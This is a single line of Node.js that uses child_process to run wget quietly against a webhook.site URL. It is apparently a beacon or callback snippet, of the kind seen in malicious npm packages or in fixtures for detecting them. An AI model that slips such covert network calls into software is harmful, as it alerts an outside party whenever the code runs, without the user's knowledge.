require("child_process").spawnSync("wget", ["-q", "https://webhook.site/0"]);
